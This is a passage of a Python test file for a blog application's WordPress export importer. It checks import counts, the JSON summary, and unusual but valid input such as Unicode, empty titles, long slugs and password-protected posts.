    assert (summary["posts"], summary["pages"], summary["comments"], summary["pingbacks"],
            summary["trackbacks"]) == (1, 0, 2, 0, 0)
    after = row_counts(app)
    assert after["post"] - before["post"] == 1
    assert after["comment"] - before["comment"] == 2
    assert after["page"] == before["page"]
    assert after["imported_item"] - before["imported_item"] == 3
    hello, reply = imported(app, "post", 1), imported(app, "comment", 903)
    assert imported(app, "comment", 902).post_id == hello.id  # on the post already here, not a copy
    assert reply.post_id == hello.id and reply.parent_id == imported(app, "comment", 1).id
    assert success(run(runner, write(tmp_path, "longer.xml", longer)))[0].startswith("Nothing new")


# ------------------------------------------------------------------ --json


def test_json_is_the_last_line_with_the_counts(app, runner, admin):
    summary = last_json(run(runner, FIXTURE, "--json"))
    for key in JSON_KEYS:
        assert type(summary[key]) is int, (key, summary[key])
    assert {key: summary[key] for key in JSON_KEYS} == FIXTURE_COUNTS

    again = last_json(run(runner, FIXTURE, "--json"))
    assert {key: again[key] for key in JSON_KEYS} == dict.fromkeys(JSON_KEYS, 0)


# ------------------------------------------------------------------ odd but valid input


def import_odd(app, runner, tmp_path, *items: str, document: str | None = None) -> dict:
    document = add_items(WXR, *items) if document is None else document
    return last_json(run(runner, write(tmp_path, "odd.xml", document), "--json"))


def test_a_post_with_an_empty_title(app, client, runner, admin, tmp_path):
    summary = import_odd(app, runner, tmp_path, item_xml(901, title="", slug=""))
    assert summary["posts"] == 9
    post = imported(app, "post", 901)
    assert post is not None and post.slug and post.title.strip()
    assert client.get(path_of(app, post)).status_code == 200


def test_a_post_with_a_500_character_slug(app, client, runner, admin, tmp_path):
    slug = "long-" + "x" * 495
    summary = import_odd(app, runner, tmp_path, item_xml(901, title="A long slug", slug=slug))
    assert summary["posts"] == 9
    post = imported(app, "post", 901)
    assert post is not None and post.slug.startswith("long-xxx") and len(post.slug) <= 200
    assert client.get(path_of(app, post)).status_code == 200


# Characters XML allows but that are unusual: line and paragraph separators, emoji (outside the
# BMP), Hebrew and Arabic, bidi overrides, DEL and NEL.
UNUSUAL = ("line\u2028separator\u2029paragraph \U0001F600\U0001F9EA \u05e9\u05dc\u05d5\u05dd "
           "\u0645\u0631\u062d\u0628\u0627 \u202eevil\u202c \u200f\x7f\x85 end")


def test_a_comment_with_unusual_characters(app, client, runner, admin, tmp_path):
    summary = import_odd(app, runner, tmp_path, item_xml(901, title="Unusual \U0001F600 title", comments=[
        comment_xml(902, author="\u05e9\u05e8\u05d4 \U0001F338", content=UNUSUAL)]))
    assert (summary["posts"], summary["comments"]) == (9, 12)
    comment = imported(app, "comment", 902)
    assert comment.content == UNUSUAL
    assert comment.author_name == "\u05e9\u05e8\u05d4 \U0001F338"
    post = imported(app, "post", 901)
    assert post.title == "Unusual \U0001F600 title"
    page = client.get(path_of(app, post))
    assert page.status_code == 200
    assert "\U0001F9EA" in page.get_data(as_text=True)


def test_a_comment_dated_0000_00_00(app, runner, admin, tmp_path):
    summary = import_odd(app, runner, tmp_path, item_xml(901, comments=[
        comment_xml(902, date="0000-00-00 00:00:00", date_gmt="0000-00-00 00:00:00")]))
    assert (summary["posts"], summary["comments"]) == (9, 12)
    comment = imported(app, "comment", 902)
    assert comment is not None and comment.created_at is not None
    assert comment.created_at.year >= 1970


def test_nav_menu_items_and_attachments_are_skipped_and_counted_with_a_reason(app, runner, admin, tmp_path):
    summary = import_odd(
        app, runner, tmp_path,
        item_xml(901, title="Home", slug="home", post_type="nav_menu_item"),
        item_xml(902, title="photo.jpg", slug="photo-jpg", post_type="attachment", status="inherit",
                 extra="\n\t\t<wp:attachment_url><![CDATA[http://127.0.0.1:8090/wp-content/uploads/photo.jpg]]>"
                       "</wp:attachment_url>"),
    )
    assert summary["posts"] == 8 and summary["pages"] == 3
    assert summary["skipped"] == 2
    reasons = " ".join(summary["skipped_why"])
    assert "nav_menu_item" in reasons and "attachment" in reasons, summary["skipped_why"]
    assert imported(app, "post", 901) is None and imported(app, "post", 902) is None


def test_a_post_in_the_trash_is_skipped_and_counted(app, runner, admin, tmp_path):
    summary = import_odd(app, runner, tmp_path, item_xml(901, title="Thrown away", status="trash"))
    assert summary["posts"] == 8 and summary["skipped"] == 1
    assert "trash" in " ".join(summary["skipped_why"]), summary["skipped_why"]
    with app.app_context():
        assert db.session.scalar(select(func.count()).select_from(Post).where(Post.title == "Thrown away")) == 0


def test_a_password_protected_post_is_private_and_hidden_from_readers(app, client, runner, admin, tmp_path):
    summary = import_odd(app, runner, tmp_path, item_xml(901, title="Members only", slug="members-only",
                                                         password="s3cret", content="The secret text."))
    assert summary["posts"] == 9
    assert summary["password_protected_made_private"] == 1
    post = imported(app, "post", 901)
    assert post.status == "private"
    assert client.get(path_of(app, post)).status_code == 404
    for url in ("/", "/feed/"):
        page = client.get(url).get_data(as_text=True)
        assert "Members only" not in page and "The secret text." not in page, url


def test_webmention_comments_import_and_an_unknown_comment_type_is_skipped_and_counted(app, runner, admin, tmp_path):
    summary = import_odd(app, runner, tmp_path, item_xml(901, comments=[
        comment_xml(902, type_="webmention", author="Other blog", url="https://other.example/a-reply/",
                    content="Mentioned this."),
        comment_xml(903, type_="note", author="A plugin", content="An internal note."),
    ]))
    assert summary["webmentions"] == 1
    assert summary["comments"] == 11
    assert summary["skipped"] == 1
    assert "note" in " ".join(summary["skipped_why"]), summary["skipped_why"]
    assert imported(app, "comment", 902).kind == "webmention"
    assert imported(app, "comment", 903) is None


def test_a_very_long_category_name(app, runner, admin, tmp_path):
    long_a = "A category with a very long name " + "x" * 300 + " ending A"
    long_b = "A category with a very long name " + "x" * 300 + " ending B"
    declared = ("<wp:category><wp:term_id>90</wp:term_id><wp:category_nicename><![CDATA[long-a]]></wp:category_nicename>"
                f"<wp:category_parent><![CDATA[]]></wp:category_parent><wp:cat_name><![CDATA[{long_a}]]></wp:cat_name>"
                "</wp:category>\n")
    document = WXR.replace("<generator>", declared + "<generator>", 1)
    document = add_items(
        document,
        item_xml(901, title="Filed under a long name",
                 categories=f'\n\t\t<category domain="category" nicename="long-a"><![CDATA[{long_a}]]></category>'),
        item_xml(902, title="Filed under another long name",
                 categories=f'\n\t\t<category domain="category" nicename="long-b"><![CDATA[{long_b}]]></category>'),
    )
    summary = import_odd(app, runner, tmp_path, document=document)
    assert summary["posts"] == 10
    with app.app_context():
        post = db.session.get(Post, imported(app, "post", 901).id)
        names = [c.name for c in post.categories]
        assert len(names) == 1 and names[0].startswith("A category with a very long name xxx"), names
        assert len(names[0]) <= 120
        other = db.session.get(Post, imported(app, "post", 902).id)
        assert len(other.categories) == 1
